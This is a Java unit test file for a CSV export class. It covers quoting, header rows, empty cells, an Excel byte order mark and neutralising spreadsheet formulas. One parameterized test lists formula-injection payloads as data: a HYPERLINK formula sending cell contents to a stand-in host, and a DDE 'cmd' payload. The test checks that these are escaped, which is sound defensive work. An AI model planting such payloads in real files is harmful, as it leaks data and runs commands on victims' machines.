package io.waybill.api.download;

import static org.assertj.core.api.Assertions.assertThat;

import io.waybill.messages.report.Report.Column;
import io.waybill.messages.report.Report.Kind;
import java.nio.charset.StandardCharsets;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvTest {

    private final Csv csv = new Csv(List.of(
            new Column("name", Kind.TEXT),
            new Column("day", Kind.DATE),
            new Column("change", Kind.COUNT),
            new Column("share", Kind.DECIMAL),
            new Column("amount", Kind.MONEY)));

    @Test
    void texts_are_in_quotes_and_numbers_are_not() {
        assertThat(beginning(false, row("ชา \"เขียว\", 1 kg\nfine"))).isEqualTo("""
                        "name","day","change","share","amount"\r
                        "ชา ""เขียว"", 1 kg\nfine","2026-11-21",-3,0.5,1234567890123456.70\r
                        """);
    }

    @Test
    void it_goes_on_without_the_names_of_the_columns() {
        assertThat(text(csv.more(List.of(row("Tea"), row("Pu-erh"))))).isEqualTo("""
                        "Tea","2026-11-21",-3,0.5,1234567890123456.70\r
                        "Pu-erh","2026-11-21",-3,0.5,1234567890123456.70\r
                        """);
        assertThat(csv.more(List.of())).isEmpty();
    }

    @Test
    void what_is_absent_is_empty() {
        Map<String, @Nullable Object> row = new HashMap<>();
        row.put("name", "Tea");
        row.put("share", null);
        assertThat(text(csv.more(List.of(row)))).isEqualTo("\"Tea\",,,,\r\n");
    }

    @Test
    void without_rows_there_are_still_the_names_of_the_columns() {
        assertThat(text(csv.beginning(false, List.of()))).isEqualTo("""
                        "name","day","change","share","amount"\r
                        """);
    }

    @Test
    void excel_finds_its_byte_order_mark() {
        assertThat(csv.beginning(true, List.of(row("Tea")))).startsWith(0xEF, 0xBB, 0xBF, '"', 'n', 'a', 'm', 'e');
        assertThat(csv.beginning(false, List.of(row("Tea")))).startsWith('"');
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"http://evil.example?\"&A1)",
                "+1+cmd|' /C calc'!A0",
                "-2+3",
                "@SUM(A1)",
                "\t=1",
                "\r=1",
                "\n=1",
                "\uFF1D1+1",
                "\uFF0B1",
                "\uFF0D1",
                "\uFF20SUM(A1)"
            })
    void what_a_spreadsheet_would_compute_stays_a_text(String formula) {
        assertThat(beginning(false, row(formula)).lines().skip(1).findFirst())
                .get()
                .asString()
                .startsWith("\"'");
        assertThat(Csv.harmless(formula)).isEqualTo("'" + formula);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "Tea", "a=b", "1-2", "ชา", "'quoted"})
    void what_is_harmless_stays_as_it_is(String text) {
        assertThat(Csv.harmless(text)).isEqualTo(text);
    }

    private String beginning(boolean forExcel, Map<String, @Nullable Object> row) {
        return text(csv.beginning(forExcel, List.of(row)));
    }

    private static String text(byte[] bytes) {
        return new String(bytes, StandardCharsets.UTF_8);
    }

    private static Map<String, @Nullable Object> row(String name) {
        Map<String, @Nullable Object> row = new HashMap<>();
        row.put("name", name);
        row.put("day", "2026-11-21");
        row.put("change", -3);
        row.put("share", 0.5);
        row.put("amount", Map.of("amount", "1234567890123456.70", "currency", "THB"));
        return row;
    }
}
